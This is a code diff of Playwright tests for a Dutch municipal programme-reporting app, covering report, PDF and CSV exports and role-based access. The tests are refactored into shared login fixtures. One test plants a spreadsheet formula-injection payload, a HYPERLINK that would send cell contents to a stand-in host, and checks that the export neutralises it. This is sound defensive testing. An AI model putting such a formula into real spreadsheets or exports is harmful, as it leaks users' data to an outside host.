@@ -1,9 +1,10 @@
-import { type Browser, expect, type Page, test } from "@playwright/test";
+import type { Page } from "@playwright/test";
 import { csvRecords, parseCsv } from "../lib/domain/csv";
 import { parseDutchNumber } from "../lib/domain/numbers";
 import { LoginPage } from "./pages/login-page";
-import { ACCOUNTS, type Account, PASSWORD, storageState } from "./support/accounts";
+import { ACCOUNTS, PASSWORD } from "./support/accounts";
 import { expectAccessible } from "./support/axe";
+import { expect, test } from "./support/fixtures";
 
 const PILOT = "Samen minder eenzaam in Oost";
 const EXPORTS = ["indicators", "assumptions", "corrections", "lessons"] as const;
@@ -16,17 +17,8 @@ async function pilotId(page: Page): Promise<number> {
   return Number(/\/programmes\/(\d+)/.exec(page.url())?.[1]);
 }
 
-async function pilotIdAs(browser: Browser, account: Account) {
-  const context = await browser.newContext({ storageState: storageState(account) });
-  const id = await pilotId(await context.newPage());
-  await context.close();
-  return id;
-}
-
 test.describe("management", () => {
-  test.use({ storageState: storageState("management") });
-
-  test("reads the pilot's report by the three questions of the budget cycle", async ({ page }) => {
+  test("reads the pilot's report by the three questions of the budget cycle", async ({ asManagement: page }) => {
     const id = await pilotId(page);
     await page.goto(`/programmes/${id}/report`);
     await expect(page.getByRole("heading", { level: 2, name: "Rapportage" })).toBeVisible();
@@ -55,7 +47,6 @@ test.describe("management", () => {
     await expect(result.getByRole("heading", { name: "Geleerde lessen" })).toBeVisible();
     await expect(page.getByRole("link", { name: "PDF downloaden" })).toBeVisible();
     await expect(page.getByRole("button", { name: "Afdrukken" })).toBeVisible();
-    await expectAccessible(page);
 
     // On paper: no navigation and no buttons, the content stays.
     await page.emulateMedia({ media: "print" });
@@ -77,7 +68,7 @@ test.describe("management", () => {
     await expect(page.getByText(/Druk op Ctrl\+P/)).toBeVisible();
   });
 
-  test("downloads the report as a PDF", async ({ page }) => {
+  test("downloads the report as a PDF", async ({ asManagement: page }) => {
     const id = await pilotId(page);
     const response = await page.request.get(`/api/programmes/${id}/report.pdf`);
     expect(response.status()).toBe(200);
@@ -90,7 +81,7 @@ test.describe("management", () => {
     expect(body.length).toBeGreaterThan(5_000);
   });
 
-  test("downloads the pilot's indicators as a CSV for Dutch Excel", async ({ page }) => {
+  test("downloads the pilot's indicators as a CSV for Dutch Excel", async ({ asManagement: page }) => {
     const id = await pilotId(page);
     const response = await page.request.get(`/api/programmes/${id}/export/indicators`);
     expect(response.status()).toBe(200);
@@ -119,16 +110,12 @@ test.describe("management", () => {
   });
 });
 
-test("a programme manager's formula in an assumption comes out of the CSV as harmless text", async ({ browser }) => {
-  const manager = await browser.newContext({ storageState: storageState("programmamanager") });
-  const page = await manager.newPage();
-  const name = `Exporttoets ${Date.now()}`;
-  await page.goto("/programmes/new");
-  await page.getByLabel("Naam").fill(name);
-  await page.getByLabel("Maatschappelijke opgave").fill("Inwoners weten de weg naar hulp niet.");
-  await page.getByRole("button", { name: "Programma toevoegen" }).click();
-  await expect(page.getByRole("heading", { level: 1, name })).toBeVisible();
-  const id = Number(/\/programmes\/(\d+)/.exec(page.url())?.[1]);
+test("a programme manager's formula in an assumption comes out of the CSV as harmless text", async ({
+  asManager: page,
+  asBeheerder: log,
+  freshProgramme,
+}) => {
+  const { id, name } = freshProgramme;
 
   const formula = '=HYPERLINK("https://voorbeeld.example/?lek="&A1;"Klik hier")';
   await page.goto(`/programmes/${id}/assumptions/new`);
@@ -141,7 +128,6 @@ test("a programme manager's formula in an assumption comes out of the CSV as har
   await expect(page.getByRole("heading", { level: 1, name: "Downloads" })).toBeVisible();
   await expect(page.getByRole("link", { name: `Aannames van ${name} (CSV)` })).toBeVisible();
   await expect(page.getByRole("link", { name: "Alle gegevens downloaden (JSON)" })).toHaveCount(0);
-  await expectAccessible(page);
 
   const response = await page.request.get(`/api/programmes/${id}/export/assumptions`);
   expect(response.status()).toBe(200);
@@ -156,47 +142,33 @@ test("a programme manager's formula in an assumption comes out of the CSV as har
   expect(records[0]?.Aanname).toBe(`'${formula}`);
   expect(records[0]?.Kritiek).toBe("Hoog");
   expect(records[0]?.Status).toBe("Ongetoetst");
-  await manager.close();
 
   // The download is in the activity log.
-  const admin = await browser.newContext({ storageState: storageState("beheerder") });
-  const log = await admin.newPage();
   await log.goto("/admin/activity?action=export.downloaded");
   await expect(log.getByText(`CSV aannames: ${name}`)).toBeVisible();
-  await admin.close();
 });
 
 test.describe("the export of the whole gemeente", () => {
   for (const account of ["teamlid", "management", "programmamanager", "partner"] as const) {
-    test(`is not found for ${account}`, async ({ playwright }) => {
-      const request = await playwright.request.newContext({
-        baseURL: test.info().project.use.baseURL,
-        storageState: storageState(account),
-      });
-      const response = await request.get("/api/export");
+    test(`is not found for ${account}`, async ({ requestAs }) => {
+      const response = await (await requestAs(account)).get("/api/export");
       expect(response.status()).toBe(404);
       expect(await response.text()).not.toContain("{");
-      await request.dispose();
     });
   }
 
-  test("sends an anonymous visitor to the sign-in page", async ({ playwright }) => {
-    const request = await playwright.request.newContext({ baseURL: test.info().project.use.baseURL });
-    const response = await request.get("/api/export", { maxRedirects: 0 });
+  test("sends an anonymous visitor to the sign-in page", async ({ requestAs }) => {
+    const response = await (await requestAs()).get("/api/export", { maxRedirects: 0 });
     expect(response.status()).toBeGreaterThanOrEqual(300);
     expect(response.status()).toBeLessThan(400);
     expect(response.headers().location).toMatch(/\/login\?callbackUrl=%2Fexports$/);
-    await request.dispose();
   });
 
   test.describe("for the beheerder", () => {
-    test.use({ storageState: storageState("beheerder") });
-
-    test("holds the pilot and no password hashes", async ({ page }) => {
+    test("holds the pilot and no password hashes", async ({ asBeheerder: page }) => {
       await page.goto("/exports");
       await expect(page.getByRole("heading", { level: 2, name: "Alle gegevens van Gemeente Voorbeeld" })).toBeVisible();
       await expect(page.getByRole("link", { name: "Alle gegevens downloaden (JSON)" })).toBeVisible();
-      await expectAccessible(page);
 
       const response = await page.request.get("/api/export");
       expect(response.status()).toBe(200);
@@ -223,50 +195,42 @@ test.describe("the export of the whole gemeente", () => {
   });
 });
 
-test("a partner downloads the files of their own programme", async ({ browser }) => {
-  const context = await browser.newContext({ storageState: storageState("partner") });
-  const page = await context.newPage();
+test("a partner downloads the files of their own programme", async ({ asPartner: page }) => {
   const id = await pilotId(page);
   await page.goto("/exports");
   await expect(page.getByRole("heading", { level: 3, name: PILOT })).toBeVisible();
   await expect(page.getByRole("heading", { level: 3, name: "Taalcafé voor nieuwkomers" })).toHaveCount(0);
-  await expectAccessible(page);
   for (const kind of EXPORTS) {
     const response = await page.request.get(`/api/programmes/${id}/export/${kind}`);
     expect(response.status(), kind).toBe(200);
     expect(parseCsv(await response.text()).length, kind).toBeGreaterThanOrEqual(1);
   }
-  await context.close();
 });
 
-test("another gemeente gets not found for the pilot's report and downloads", async ({ browser }) => {
-  const id = await pilotIdAs(browser, "management");
-  const context = await browser.newContext({ storageState: storageState("testdorp") });
-  const page = await context.newPage();
+test("another gemeente gets not found for the pilot's report and downloads", async ({
+  asManagement,
+  asTestdorp: page,
+}) => {
+  const id = await pilotId(asManagement);
   const report = await page.goto(`/programmes/${id}/report`);
   expect(report?.status()).toBe(404);
   await expect(page.getByRole("heading", { level: 1, name: "Pagina niet gevonden" })).toBeVisible();
-  await expectAccessible(page);
   for (const path of [`/api/programmes/${id}/report.pdf`, ...EXPORTS.map((k) => `/api/programmes/${id}/export/${k}`)]) {
     const response = await page.request.get(path, { maxRedirects: 0 });
     expect(response.status(), path).toBe(404);
   }
   await page.goto("/exports");
   await expect(page.getByText(PILOT)).toHaveCount(0);
-  await context.close();
 });
 
-test("an unknown download is not found", async ({ browser }) => {
-  const context = await browser.newContext({ storageState: storageState("management") });
-  const page = await context.newPage();
+test("an unknown download is not found", async ({ asManagement: page }) => {
   const id = await pilotId(page);
   for (const path of [`/api/programmes/${id}/export/users`, "/api/programmes/abc/export/indicators"]) {
     expect((await page.request.get(path)).status(), path).toBe(404);
   }
-  await context.close();
 });
 
-test("prints the PDF for a user who came in over HTTPS through a reverse proxy", async ({ browser }) => {
+test("prints the PDF for a user who came in over HTTPS through a reverse proxy", async ({ browser, asManagement }) => {
   // Behind a proxy that ends HTTPS, the session cookie is a secure one (`__Secure-…`): the server's own browser must
   // present it as such when it opens the report to print it.
   const context = await browser.newContext({
@@ -282,7 +246,7 @@ test("prints the PDF for a user who came in over HTTPS through a reverse proxy",
     .poll(async () => (await context.cookies()).map((c) => c.name))
     .toContain("__Secure-authjs.session-token");
 
-  const id = await pilotIdAs(browser, "management");
+  const id = await pilotId(asManagement);
   const response = await context.request.get(`/api/programmes/${id}/report.pdf`, { maxRedirects: 0 });
   expect(response.status()).toBe(200);
   expect(response.headers()["content-type"]).toBe("application/pdf");
